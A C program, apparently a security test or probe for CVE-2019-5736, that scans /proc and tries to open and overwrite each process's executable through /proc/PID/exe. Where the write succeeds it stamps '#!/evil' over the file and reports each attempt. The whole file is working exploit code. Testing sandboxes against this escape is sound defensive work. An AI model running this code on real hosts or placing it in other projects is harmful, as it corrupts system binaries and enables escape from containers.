/* overwrite-exe ROUNDS - CVE-2019-5736: looks for a process whose program is a file of the host and
 * overwrites it through /proc/PID/exe.
 *
 * Each round tries all processes but this one, each by three roads: for reading, for writing, and
 * for writing by way of an O_PATH descriptor, which outlives the process. The first round prints a
 * line each: "exe PID ROAD: reason", or "exe PID ROAD: DEVICE:INODE" for one that opened, and
 * "OVERWRITTEN" if a write went through. The other rounds print only what went through.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int open_through_path(const char *exe)
{
    char again[64];
    int path_fd = open(exe, O_PATH | O_CLOEXEC);
    if (path_fd < 0)
        return -1;
    (void)snprintf(again, sizeof(again), "/proc/self/fd/%d", path_fd);
    int fd = open(again, O_WRONLY | O_CLOEXEC);
    int reason = errno;
    (void)close(path_fd);
    errno = reason;
    return fd;
}

static void try_road(const char *pid, const char *road, int fd, bool print)
{
    struct stat status;
    if (fd < 0) {
        if (print)
            (void)printf("exe %s %s: %s\n", pid, road, strerror(errno));
        return;
    }
    if (fstat(fd, &status) == 0 && print)
        (void)printf("exe %s %s: %llu:%llu\n", pid, road, (unsigned long long)status.st_dev,
                     (unsigned long long)status.st_ino);
    if (pwrite(fd, "#!/evil\n", 8, 0) > 0)
        (void)printf("exe %s %s: OVERWRITTEN\n", pid, road);
    (void)close(fd);
}

static void attack(const char *pid, bool print)
{
    char exe[64];
    (void)snprintf(exe, sizeof(exe), "/proc/%.20s/exe", pid);
    try_road(pid, "read", open(exe, O_RDONLY | O_CLOEXEC), print);
    try_road(pid, "write", open(exe, O_WRONLY | O_CLOEXEC), print);
    try_road(pid, "reopen", open_through_path(exe), print);
}

static void attack_all(bool print)
{
    DIR *proc = opendir("/proc");
    if (proc == NULL)
        exit(EXIT_FAILURE);
    for (struct dirent *entry; (entry = readdir(proc)) != NULL;) {
        long pid = strtol(entry->d_name, NULL, 10);
        if (pid > 0 && pid != getpid())
            attack(entry->d_name, print);
    }
    (void)closedir(proc);
}

int main(int argc, char **argv)
{
    long rounds = argc > 1 ? strtol(argv[1], NULL, 10) : 1;
    for (long i = 0; i < rounds; i++)
        attack_all(i == 0);
    return EXIT_SUCCESS;
}
